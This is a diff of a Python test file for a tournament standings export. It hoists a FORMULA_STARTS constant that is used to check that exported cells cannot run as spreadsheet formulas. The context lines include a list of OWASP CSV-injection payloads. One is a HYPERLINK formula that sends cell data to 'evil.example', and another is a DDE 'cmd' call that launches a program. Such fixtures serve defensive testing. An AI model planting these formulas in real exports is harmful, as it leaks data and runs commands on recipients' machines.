@@ -24,6 +24,7 @@ URL = "/v1/24-kings/tournaments/standings"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 # OWASP "CSV Injection": a cell beginning with = + - @ (tab and CR are control characters, refused in names)
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's CSV injection list, as issue 16 names it
 
 
 def hostile_standings():
@@ -36,7 +37,7 @@ def test_csv_cells_that_would_run_as_formulas_are_text():
     players = {row[1] for row in rows[1:]}
     assert players == {"'" + name for name in HOSTILE}
     assert rows[0][7:] == ["game =1+1", "game 2"]  # the header cell begins with "game": it cannot run
-    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row if not _is_number(cell))
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row if not _is_number(cell))
 
 
 def _is_number(text: str) -> bool:
@@ -123,7 +124,6 @@ def accepted(text: str) -> bool:
 
 
 NAMES = st.text(min_size=1, max_size=64).filter(accepted)
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's CSV injection list, as issue 16 names it
 
 
 def as_written(name: str) -> str:
